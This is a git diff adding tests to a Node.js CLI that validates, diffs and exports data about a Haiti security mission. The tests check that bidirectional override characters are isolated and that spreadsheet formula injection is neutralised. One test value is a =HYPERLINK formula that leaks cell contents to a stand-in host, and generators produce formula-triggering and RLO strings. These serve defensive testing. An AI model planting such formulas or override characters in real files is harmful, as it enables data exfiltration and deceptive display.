@@ -5,6 +5,7 @@ import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'n
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
+import fc from 'fast-check';
 
 const root = new URL('../../', import.meta.url);
 const cli = (...args) =>
@@ -127,7 +128,7 @@ describe('mission-widgets diff', () => {
     assert.equal(stdout, 'Nothing readers see changes.\n');
   });
 
-  it('says in words what readers will see change', () => {
+  it('says in words what readers will see change, as the widgets say it', () => {
     const doc = shipped();
     const kenya = doc.contributors.find((contributor) => contributor.id === 'KE');
     const deployed = kenya.personnel.filter((figure) => figure.status === 'deployed').at(-1);
@@ -140,7 +141,7 @@ describe('mission-widgets diff', () => {
       change: 'drawdown',
     });
     doc.updated = '2026-03-22';
-    const removed = doc.events.pop();
+    doc.events.pop();
     doc.events.push({
       id: 'new-event',
       date: '2026-03-21',
@@ -150,18 +151,216 @@ describe('mission-widgets diff', () => {
     });
     const file = join(scratch(), 'new.json');
     writeFileSync(file, JSON.stringify(doc));
+    const { status, stdout, stderr } = cli('diff', shippedPath, file);
+    assert.equal(status, 0, stderr);
+    assert.deepEqual(stdout.trim().split('\n'), [
+      'Updated: March 21, 2026 → March 22, 2026.',
+      'Counter for the whole mission: “GSF: about 959 personnel deployed in Haiti of 5,550 authorised, more preparing, number not reported, as of March 21, 2026.” → “GSF: 359 personnel deployed in Haiti of 5,550 authorised, more preparing, number not reported, as of March 21, 2026.”',
+      'Counter for Kenya: “Kenya: about 700 personnel deployed in Haiti of 1,000 pledged, more preparing, number not reported, as of December 2025.” → “Kenya: 100 personnel deployed in Haiti of 1,000 pledged, more preparing, number not reported, as of March 21, 2026.”',
+      'Timeline: new event, March 21, 2026: A new event.',
+      'Timeline: event removed, March 21, 2026: Chad to send 800, per one report.',
+    ]);
+  });
+
+  it('isolates data text in its lines: a publisher ending in an override reorders nothing after it', () => {
+    const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
+    const doc = shipped();
+    doc.sources.push({ ...doc.sources[0], id: 'rlo-source', publisher: `KBC${RLO}`, date: '2024-09-26' });
+    doc.events[0].title = { en: `${RLO}Moïse killed` };
+    const file = join(scratch(), 'rlo.json');
+    writeFileSync(file, JSON.stringify(doc));
     const { status, stdout } = cli('diff', shippedPath, file);
     assert.equal(status, 0);
     const lines = stdout.trim().split('\n');
-    assert.equal(lines[0], `Updated: ${shipped().updated} → 2026-03-22.`);
-    assert.ok(
-      lines.some((line) => /^Kenya deployed( police)?: .+ → 100 \(as of 2026-03-21\)\.$/.test(line)),
-      stdout,
+    const title = shipped().events[0].title.en;
+    assert.deepEqual(lines, [
+      `Timeline: event changed, July 7, 2021: ${FSI}${RLO}Moïse killed${PDI} (title was “${title}”).`,
+      `New source: ${FSI}KBC${RLO}${PDI}, September 26, 2024, “${shipped().sources[0].title}”.`,
+    ]);
+  });
+
+  it('compares nothing when a file is not one the widgets would show', () => {
+    const doc = shipped();
+    doc.events[0].date = '2024-02-30';
+    const file = join(scratch(), 'broken.json');
+    writeFileSync(file, JSON.stringify(doc));
+    const { status, stdout, stderr } = cli('diff', shippedPath, file);
+    assert.equal(status, 1);
+    assert.equal(stdout, '');
+    assert.deepEqual(stderr.trim().split('\n'), [
+      `error: ${file}: events[0].date: expected a real date as YYYY, YYYY-MM or YYYY-MM-DD, got "2024-02-30"`,
+      `${file}: 1 error; the widgets would not show it, nothing compared`,
+    ]);
+  });
+});
+
+describe('messages that quote data', () => {
+  it('isolate the quoted value, in `validate` and in `import`', () => {
+    const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
+    const doc = shipped();
+    doc.events[0].date = `2024${RLO}`;
+    doc.events[1].category = `riot${RLO}`;
+    const file = join(scratch(), 'rlo.json');
+    writeFileSync(file, JSON.stringify(doc));
+    const checked = cli('validate', file);
+    assert.deepEqual(checked.stdout.trim().split('\n'), [
+      `${file}: error: events[0].date: expected a real date as YYYY, YYYY-MM or YYYY-MM-DD, got ${FSI}"2024${RLO}"${PDI}`,
+      `${file}: warning: events[1].category: unknown category ${FSI}"riot${RLO}"${PDI}, shown as "other"`,
+      `${file}: invalid, 1 error, 1 warning`,
+    ]);
+    const broken = brokenTemplate('figures.csv', 3, 'count', `12${RLO}`);
+    const imported = cli('import', broken);
+    assert.equal(imported.status, 1);
+    assert.match(
+      imported.stderr,
+      new RegExp(
+        `^error: figures\\.csv row 3, column count: expected a whole number, found ${FSI}'12${RLO}'${PDI}$`,
+        'm',
+      ),
     );
-    assert.ok(lines.includes('New event, 2026-03-21: A new event'), stdout);
-    assert.ok(
-      lines.some((line) => line.startsWith(`Event removed, ${removed.date}: `)),
-      stdout,
+  });
+});
+
+// Formula injection (issue 20): a spreadsheet runs a cell that begins with = + - @, or a tab or a
+// carriage return. The cells are read here as a spreadsheet reads them, quotes removed and
+// nothing else, by a reader of this test's own.
+function spreadsheetCells(text) {
+  const cells = [];
+  let cell = '';
+  let quoted = false;
+  let started = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i];
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"' && !started) {
+      quoted = true;
+      started = true;
+    } else if (char === ',' || char === '\n') {
+      cells.push(cell);
+      cell = '';
+      started = false;
+    } else if (char !== '\r' || text[i + 1] !== '\n') {
+      cell += char;
+      started = true;
+    }
+  }
+  return cells;
+}
+const RUNS = /^[=+\-@\t\r]/;
+const dangerous = fc
+  .tuple(
+    fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''+", "'-", '-5', '=1+1'),
+    fc.string({ maxLength: 8, unit: fc.constantFrom('a', '1', '(', ')', '"', ',', ' ', '=', "'", '\n') }),
+  )
+  .map(([start, rest]) => start + rest);
+
+describe('paths and columns that come from the data', () => {
+  const [FSI, PDI, RLO] = ['\u2068', '\u2069', '\u202e'];
+  it('`export` isolates a field name it cannot keep', () => {
+    const doc = shipped();
+    doc.contributors[0][`nick${RLO}`] = 'x';
+    const file = join(scratch(), 'field.json');
+    writeFileSync(file, JSON.stringify(doc));
+    const { status, stderr } = cli('export', file, join(scratch(), 'out'));
+    assert.equal(status, 1);
+    assert.deepEqual(stderr.trim().split('\n'), [
+      `error: ${file}: contributors[0][${FSI}"nick${RLO}"${PDI}]: not kept by the tables`,
+      `${file}: nothing written`,
+    ]);
+  });
+
+  it('`import` isolates a column header it cannot read', () => {
+    const folder = brokenTemplate('figures.csv', 1, 'note (fr)', `note (fr${RLO})`);
+    const { status, stderr } = cli('import', folder);
+    assert.equal(status, 1);
+    assert.match(
+      stderr,
+      new RegExp(
+        `^error: figures\\.csv row 1, column ${FSI}note \\(fr${RLO}\\)${PDI}: expected a language code such as en or fr-CA in brackets, found ${FSI}'fr${RLO}'${PDI}$`,
+        'm',
+      ),
     );
+  });
+});
+
+describe('spreadsheet formula injection', async () => {
+  const { importTables, missionToTables, parseCsv, writeCsv, differences } = await import(
+    new URL('dist/tables.js', root)
+  );
+  const { validateMission } = await import(new URL('dist/data.js', root));
+
+  it('writes no cell a spreadsheet would run, and reads every cell back exactly (fast-check)', () => {
+    const rows = fc.array(
+      fc.array(fc.oneof(dangerous, fc.string({ maxLength: 4 })), { minLength: 1, maxLength: 4 }),
+      {
+        minLength: 1,
+        maxLength: 5,
+      },
+    );
+    fc.assert(
+      fc.property(rows, (table) => {
+        const text = writeCsv(table);
+        for (const cell of spreadsheetCells(text)) {
+          assert.ok(
+            !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
+            `a live formula: ${JSON.stringify(cell)}`,
+          );
+        }
+        assert.deepEqual(
+          parseCsv(text).records.map((record) => record.cells),
+          table,
+        );
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('exports titles, summaries and publishers that look like formulas as text, and imports them unchanged (fast-check)', () => {
+    const word = dangerous.filter((text) => text.trim() === text && text.trim() !== '');
+    fc.assert(
+      fc.property(word, word, word, (title, summary, publisher) => {
+        const doc = shipped();
+        doc.events[0].title = title;
+        doc.events[1].summary = { en: summary, fr: title };
+        doc.sources[0].publisher = publisher;
+        const tables = missionToTables(doc);
+        for (const [file, text] of Object.entries(tables)) {
+          for (const cell of spreadsheetCells(text)) {
+            assert.ok(
+              !RUNS.test(cell) || /^-?\d+(\.\d+)?$/.test(cell),
+              `${file}: a live formula: ${JSON.stringify(cell)}`,
+            );
+          }
+        }
+        const result = importTables(tables, validateMission);
+        assert.deepEqual(
+          result.issues.filter((issue) => issue.severity === 'error'),
+          [],
+        );
+        assert.deepEqual(differences(doc, result.mission), []);
+      }),
+      { numRuns: 40 },
+    );
+  });
+
+  it('`export` writes =HYPERLINK(…) as text, and `import` gives back the same file', () => {
+    const doc = shipped();
+    doc.events[0].title = '=HYPERLINK("https://example.com/?leak="&A1,"Click")';
+    doc.sources[0].publisher = '@SUM(1+1)';
+    const file = join(scratch(), 'formulas.json');
+    writeFileSync(file, JSON.stringify(doc));
+    const folder = join(scratch(), 'tables');
+    assert.equal(cli('export', file, folder).status, 0);
+    const events = readFileSync(join(folder, 'events.csv'), 'utf8');
+    assert.ok(spreadsheetCells(events).includes(`'${doc.events[0].title}`), events.slice(0, 400));
+    assert.ok(spreadsheetCells(readFileSync(join(folder, 'sources.csv'), 'utf8')).includes("'@SUM(1+1)"));
+    const imported = cli('import', folder);
+    assert.equal(imported.status, 0, imported.stderr);
+    assert.deepEqual(canonical(JSON.parse(imported.stdout)), canonical(doc));
   });
 });
